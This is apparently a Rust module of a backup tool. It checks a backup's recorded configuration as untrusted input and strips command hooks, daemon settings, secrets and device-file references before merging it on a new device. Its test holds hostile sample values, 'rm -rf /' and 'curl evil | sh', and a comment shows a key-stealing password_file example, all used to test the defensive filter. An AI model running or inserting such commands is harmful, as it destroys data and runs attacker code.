//! Setting up a new device from a backup: the configuration a backup recorded (units,
//! schedules, locations; never secrets) checked as untrusted input, offered, and merged into
//! this device's configuration file.
//!
//! The text comes from a location or a backup file, as untrusted as a network. It is read
//! with the normal configuration parser, and whatever would run a command on this device
//! (`command` units, hooks, the daemon's `notify_command`) or change how this device is
//! reached (`[daemon]`, `device_name`) is left out and said so. Secrets are dropped again,
//! whatever the backup holds; the person gives them again. Paths under the home of the user
//! who made the backup are mapped to this user's home, as a restore maps them.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::Serialize;
use toml_edit::{DocumentMut, Item, Table, Value};

use crate::config::{parse, LocationKind};
use crate::{EngineError, EngineResult};

/// The most configuration text a backup may offer: far more than any real configuration.
const MOST_TEXT: usize = 256 << 10;

/// What a backup's configuration offers this device.
#[derive(Debug, Clone, Serialize)]
pub struct SetupOffer {
    pub units: Vec<OfferedUnit>,
    pub schedules: Vec<String>,
    pub locations: Vec<OfferedLocation>,
    /// The default location the old device had, when it is offered.
    pub default_location: Option<String>,
    /// What was left out, and why (one sentence each).
    pub left_out: Vec<String>,
    /// The checked configuration to merge (TOML).
    #[serde(skip)]
    text: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct OfferedUnit {
    pub name: String,
    pub title: String,
    pub kind: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct OfferedLocation {
    pub name: String,
    pub kind: String,
    /// Where it is (`url = …, path = …`): a secret asked for again goes there, so the person
    /// sees the server a crafted backup names before giving it.
    pub address: String,
    /// Secrets it needs that the backup does not carry: keys of `[location.NAME]`, to be
    /// given again (or as `KEY_file`).
    pub secrets: Vec<String>,
}

/// What [`apply`] wrote.
#[derive(Debug, Clone, Default, Serialize)]
pub struct SetupApplied {
    pub units: Vec<String>,
    pub schedules: Vec<String>,
    pub locations: Vec<String>,
    /// Names this device's configuration already had: its own are kept.
    pub kept: Vec<String>,
    /// Secrets still missing, as `location.KEY`.
    pub missing_secrets: Vec<String>,
    /// The backup's default location, made this device's (only on a device with no location
    /// of its own).
    pub default_location: Option<String>,
}

fn refused(detail: impl Into<String>) -> EngineError {
    EngineError::SetupRefused { detail: detail.into() }
}

/// Reads the configuration a backup recorded (made by the user whose home was `from_home`)
/// for this user (home `to_home`).
pub fn offer(text: &str, from_home: &Path, to_home: &Path) -> EngineResult<SetupOffer> {
    if text.len() > MOST_TEXT {
        return Err(refused(format!("its configuration is {} bytes, more than any real one", text.len())));
    }
    // TOML allows no control character but tab and line ends, and a parser's error quotes the
    // line it is on: refused before, without quoting it.
    if let Some((line, _)) =
        text.lines().enumerate().find(|(_, l)| l.chars().any(|c| c.is_control() && c != '\t' && c != '\r'))
    {
        return Err(refused(format!("its configuration holds a control character on line {}", line + 1)));
    }
    let mut doc: DocumentMut = text.parse().map_err(|e: toml_edit::TomlError| {
        let at = e.span().map(|s| text.get(..s.start).unwrap_or(text).lines().count().max(1));
        refused(format!(
            "its configuration is not valid TOML (line {}): {}",
            at.unwrap_or(1),
            e.message().chars().take(200).collect::<String>()
        ))
    })?;
    let mut left_out = Vec::new();
    for key in ["daemon", "device_name"] {
        if doc.remove(key).is_some() {
            left_out.push(format!("{key}: this device keeps its own"));
        }
    }
    let known = ["default_location", "location", "unit", "schedule"];
    let unknown: Vec<String> =
        doc.iter().map(|(k, _)| k.to_string()).filter(|k| !known.contains(&k.as_str())).collect();
    if let Some(k) = unknown.first() {
        return Err(refused(format!("its configuration has an unknown setting {k:?}")));
    }
    // Its names and words are shown to the person (a terminal, the page) before anything is
    // taken, dropped parts too: a name that is not one, or a control character anywhere
    // (which would move a terminal's cursor, clear it or retitle it), refuses the whole.
    for section in ["unit", "location", "schedule"] {
        let Some(tables) = doc.get(section).and_then(Item::as_table_like) else { continue };
        if let Some((name, _)) = tables.iter().find(|(name, _)| !crate::config::valid_name(name)) {
            return Err(refused(format!(
                "its configuration has {section} {name:?}, and a name may only hold letters, digits, '-' and '_'"
            )));
        }
    }
    if let Some(bad) = with_control_character(doc.as_item()) {
        return Err(refused(format!("its configuration holds a control character in {bad:?}")));
    }
    // What runs commands is not taken from a backup.
    let mut dropped_units = Vec::new();
    if let Some(units) = doc.get_mut("unit").and_then(Item::as_table_like_mut) {
        let names: Vec<String> = units.iter().map(|(k, _)| k.to_string()).collect();
        for name in names {
            let Some(unit) = units.get(&name).and_then(Item::as_table_like) else { continue };
            let runs = unit.get("type").and_then(Item::as_str) == Some("command")
                || ["before_backup", "after_backup", "before_restore", "after_restore", "export", "import", "script"]
                    .iter()
                    .any(|k| unit.contains_key(k));
            if runs {
                units.remove(&name);
                left_out.push(format!(
                    "unit {name}: it runs commands, which are not taken from a backup; add it by hand if you trust it"
                ));
                dropped_units.push(name);
            }
        }
    }
    // An SFTP server's key is confirmed on this device, into this device's known_hosts: a
    // backup names neither another file to write keys into nor trust on first use.
    if let Some(locations) = doc.get_mut("location").and_then(Item::as_table_like_mut) {
        for (name, loc) in locations.iter_mut() {
            let Some(loc) = loc.as_table_like_mut() else { continue };
            for key in ["known_hosts", "known_hosts_file", "trust_new_host"] {
                if loc.remove(key).is_some() {
                    left_out.push(format!(
                        "location {name}: {key} (this device confirms the server's key itself, into its own known_hosts)"
                    ));
                }
            }
            // A value read from this device (`KEY_file`, `"$VARIABLE"`) would be sent to
            // whatever server the backup names: `password_file = "~/.ssh/id_ed25519"` or
            // `password = "$TOKEN"` hands the attacker's server this device's secrets, and
            // `repository_password_file` at a file of known content a password the attacker
            // knows. Only a folder location's path and an SFTP key file (which proves, never
            // sends) stay.
            let folder = matches!(loc.get("type").and_then(Item::as_str), None | Some("local" | "removable"));
            let from_device: Vec<String> = loc
                .iter()
                .filter(|(k, v)| {
                    (k.ends_with("_file") && *k != "key_file")
                        || (v.as_str().is_some_and(|s| s.starts_with('$')) && !(folder && *k == "path"))
                })
                .map(|(k, _)| k.to_string())
                .collect();
            for key in from_device {
                loc.remove(&key);
                left_out.push(format!(
                    "location {name}: {key} (a value read from this device's files or environment is given again)"
                ));
            }
        }
    }
    if let Some(schedules) = doc.get_mut("schedule").and_then(Item::as_table_like_mut) {
        let names: Vec<String> = schedules.iter().map(|(k, _)| k.to_string()).collect();
        for name in names {
            let uses_dropped =
                schedules.get(&name).and_then(|s| s.get("units")).and_then(Item::as_array).is_some_and(|a| {
                    a.iter().any(|u| u.as_str().is_some_and(|u| dropped_units.iter().any(|d| d == u)))
                });
            if uses_dropped {
                schedules.remove(&name);
                left_out.push(format!("schedule {name}: it backs up a unit that was left out"));
            }
        }
    }
    // Never a secret, whatever the backup holds; paths of the old home mapped to this one.
    let stripped = crate::config_edit::without_secrets(&doc.to_string()).map_err(refused)?;
    let mut doc: DocumentMut = stripped.parse().map_err(|e: toml_edit::TomlError| refused(e.to_string()))?;
    if from_home != to_home {
        map_homes(doc.as_table_mut(), from_home, to_home);
    }
    let text = doc.to_string();
    let config = parse(&text, Path::new("the backup's configuration"))
        .map_err(|e| refused(format!("its configuration is not one this version reads: {e}")))?;
    let units = config
        .unit
        .iter()
        .map(|(name, u)| OfferedUnit {
            name: name.clone(),
            title: u.title.clone().unwrap_or_else(|| name.clone()),
            kind: u.kind.as_str().to_string(),
        })
        .collect();
    let locations = config
        .location
        .iter()
        .map(|(name, lc)| OfferedLocation {
            name: name.clone(),
            kind: lc.kind.as_str().to_string(),
            address: address(lc),
            secrets: secrets_needed(lc.kind, &|k| {
                lc.other.contains_key(k) || lc.other.contains_key(&format!("{k}_file"))
            }),
        })
        .collect();
    Ok(SetupOffer {
        units,
        schedules: config.schedule.keys().cloned().collect(),
        locations,
        default_location: config.default_location.clone(),
        left_out,
        text,
    })
}

/// The first key or text under `item` that holds a control character, if any.
fn with_control_character(item: &Item) -> Option<String> {
    fn value(v: &Value) -> Option<String> {
        match v {
            Value::String(s) => s.value().chars().any(char::is_control).then(|| s.value().clone()),
            Value::Array(a) => a.iter().find_map(value),
            Value::InlineTable(t) => {
                t.iter().find_map(|(k, v)| if k.chars().any(char::is_control) { Some(k.to_string()) } else { value(v) })
            }
            _ => None,
        }
    }
    match item {
        Item::Value(v) => value(v),
        Item::Table(t) => t.iter().find_map(|(k, v)| {
            if k.chars().any(char::is_control) {
                Some(k.to_string())
            } else {
                with_control_character(v)
            }
        }),
        Item::ArrayOfTables(a) => a.iter().find_map(|t| with_control_character(&Item::Table(t.clone()))),
        Item::None => None,
    }
}

/// A location's address as its settings give it: `key = value` of the keys that say where.
fn address(lc: &crate::config::LocationConfig) -> String {
    let mut parts = Vec::new();
    for key in ["url", "endpoint", "host", "port", "user", "username", "bucket", "root", "share", "uuid", "label"] {
        match lc.other.get(key) {
            Some(toml::Value::String(v)) => parts.push(format!("{key} = {v}")),
            Some(v @ toml::Value::Integer(_)) => parts.push(format!("{key} = {v}")),
            _ => {}
        }
    }
    if let Some(p) = &lc.path {
        parts.push(format!("path = {p}"));
    }
    parts.join(", ")
}

/// The secrets a location of this kind needs that it lacks (`has` tells a key present).
fn secrets_needed(kind: LocationKind, has: &dyn Fn(&str) -> bool) -> Vec<String> {
    let need = |k: &str| if has(k) { None } else { Some(k.to_string()) };
    let one = match kind {
        LocationKind::Sftp if !has("key_file") => need("password"),
        LocationKind::S3 if has("access_key_id") => need("secret_access_key"),
        LocationKind::Webdav if has("username") => need("password"),
        LocationKind::Smb => need("password"),
        LocationKind::Dropbox | LocationKind::Onedrive | LocationKind::Gdrive if !has("access_token") => {
            need("refresh_token")
        }
        _ => None,
    };
    one.into_iter().collect()
}

/// Rewrites every string under `from` (the old home) to lie under `to`, in units and locations.
fn map_homes(root: &mut Table, from: &Path, to: &Path) {
    fn map_value(v: &mut Value, from: &str, to: &str) {
        match v {
            Value::String(s) => {
                let old = s.value();
                if old == from || old.starts_with(&format!("{from}/")) {
                    *v = Value::from(format!("{to}{}", &old[from.len()..]));
                }
            }
            Value::Array(a) => a.iter_mut().for_each(|v| map_value(v, from, to)),
            _ => {}
        }
    }
    let (Some(from), Some(to)) = (from.to_str(), to.to_str()) else { return };
    if from.is_empty() || from == "/" {
        return;
    }
    for section in ["unit", "location"] {
        let Some(tables) = root.get_mut(section).and_then(Item::as_table_like_mut) else { continue };
        for (_, t) in tables.iter_mut() {
            let Some(t) = t.as_table_like_mut() else { continue };
            for (_, item) in t.iter_mut() {
                if let Some(v) = item.as_value_mut() {
                    map_value(v, from, to);
                }
            }
        }
    }
}

/// Merges an offer into the configuration file `file` (made when missing): units, schedules
/// and locations this device does not have yet by name, with the secrets given
/// (`secrets[location][key]`). This device's default location (`mine`, when it has a location
/// of its own) stays, written down when the file names none, so that a location added does not
/// take its place by sorting first; only a device with none takes the backup's default. The
/// result is checked whole before it is written.
pub fn apply(
    file: &Path,
    offer: &SetupOffer,
    secrets: &BTreeMap<String, BTreeMap<String, String>>,
    mine: Option<&str>,
) -> EngineResult<SetupApplied> {
    let theirs: DocumentMut = offer.text.parse().map_err(|e: toml_edit::TomlError| refused(e.to_string()))?;
    let mut doc = crate::config_edit::read(file)?;
    let mut applied = SetupApplied::default();
    for (section, names) in
        [("unit", &mut applied.units), ("schedule", &mut applied.schedules), ("location", &mut applied.locations)]
    {
        let Some(offered) = theirs.get(section).and_then(Item::as_table_like) else { continue };
        let mine = doc.entry(section).or_insert_with(|| {
            let mut t = Table::new();
            t.set_implicit(true);
            Item::Table(t)
        });
        let Some(mine) = mine.as_table_like_mut() else {
            return Err(EngineError::Config { path: file.to_path_buf(), detail: format!("{section} is not a table") });
        };
        for (name, item) in offered.iter() {
            if mine.contains_key(name) {
                applied.kept.push(format!("{section} {name}"));
                continue;
            }
            let mut item = item.clone();
            if section == "location" {
                if let (Some(t), Some(given)) = (item.as_table_like_mut(), secrets.get(name)) {
                    for (k, v) in given.iter().filter(|(_, v)| !v.is_empty()) {
                        t.insert(k, toml_edit::value(v.as_str()));
                    }
                }
            }
            mine.insert(name, item);
            names.push(name.to_string());
        }
    }
    for loc in &offer.locations {
        for key in &loc.secrets {
            let given = secrets.get(&loc.name).and_then(|s| s.get(key)).is_some_and(|v| !v.is_empty());
            if applied.locations.contains(&loc.name) && !given {
                applied.missing_secrets.push(format!("{}.{key}", loc.name));
            }
        }
    }
    if doc.get("default_location").is_none() && !applied.locations.is_empty() {
        match mine {
            Some(mine) => doc["default_location"] = toml_edit::value(mine),
            None => {
                if let Some(d) = offer.default_location.as_ref().filter(|d| applied.locations.contains(d)) {
                    doc["default_location"] = toml_edit::value(d.as_str());
                    applied.default_location = Some(d.clone());
                }
            }
        }
    }
    crate::config_edit::write(file, &doc)?;
    Ok(applied)
}

/// Where the backup's configuration says the old home was, from the snapshot's `home`.
pub fn home_of(raw: &[u8]) -> PathBuf {
    use std::os::unix::ffi::OsStrExt;
    PathBuf::from(std::ffi::OsStr::from_bytes(raw))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_secrets_and_the_daemon_are_left_out_and_homes_mapped() {
        let text = "device_name = \"old\"\ndefault_location = \"nas\"\n[daemon]\nnotify_command = \"rm -rf /\"\n\
                    [location.nas]\ntype = \"sftp\"\nhost = \"h\"\npassword = \"hunter2\"\nknown_hosts = \"/etc/passwd\"\n\
                    [unit.docs]\npaths = [\"/home/a/docs\", \"~/notes\"]\n\
                    [unit.evil]\npaths = [\"~/x\"]\nbefore_backup = \"curl evil | sh\"\n\
                    [schedule.nightly]\nevery = \"day\"\nunits = [\"evil\"]\n";
        let o = offer(text, Path::new("/home/a"), Path::new("/home/b")).unwrap();
        assert_eq!(o.units.iter().map(|u| u.name.as_str()).collect::<Vec<_>>(), ["docs"]);
        assert!(o.schedules.is_empty());
        assert_eq!(o.locations[0].secrets, ["password"]);
        assert!(!o.text.contains("hunter2") && !o.text.contains("rm -rf") && !o.text.contains("curl"));
        assert!(!o.text.contains("/etc/passwd"), "no other file to write host keys into: {}", o.text);
        assert!(o.text.contains("/home/b/docs") && o.text.contains("~/notes"), "{}", o.text);
        assert_eq!(o.left_out.len(), 5, "{:?}", o.left_out);
    }

    #[test]
    fn unknown_settings_are_refused() {
        assert!(offer("surprise = 1\n", Path::new("/a"), Path::new("/a")).is_err());
        assert!(offer("[unit.x]\npaths = [\"~\"]\nwhat = 1\n", Path::new("/a"), Path::new("/a")).is_err());
    }
}
